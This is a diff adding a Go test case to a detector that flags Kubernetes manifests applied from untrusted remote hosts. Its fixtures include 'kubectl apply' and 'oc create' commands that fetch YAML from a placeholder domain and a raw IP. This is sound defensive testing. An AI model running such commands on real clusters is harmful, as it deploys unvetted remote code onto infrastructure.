@@ -237,3 +237,15 @@ func TestNewLanguagesRound6(t *testing.T) {
 		{"kazakh ordinary", "", "# Журнал\n\nБұл файл журналдарды күн сайын айналдырады.\n", "", ""},
 	})
 }
+
+// TestRemoteManifestsRound6: round 6. Manifests applied to a cluster
+// straight from a host nothing vouches for run what they say, like a
+// script piped to a shell; a vendor's release manifest does not.
+func TestRemoteManifestsRound6(t *testing.T) {
+	runConstructs4(t, []construct4{
+		{"kubectl apply unknown host", "", "```bash\nkubectl apply -n tools -f https://cluster-addons.example.top/agent.yaml\n```", RuleRemoteExec, ""},
+		{"oc create raw ip", "", "```sh\noc create --filename=http://192.0.2.44/ds.yaml\n```", RuleRemoteExec, ""},
+		{"vendor manifest on github", "", "```bash\nkubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.14.0/cert-manager.yaml\n```", "", ""},
+		{"local manifest", "", "```bash\nkubectl apply -f k8s/deployment.yaml\n```", "", ""},
+	})
+}
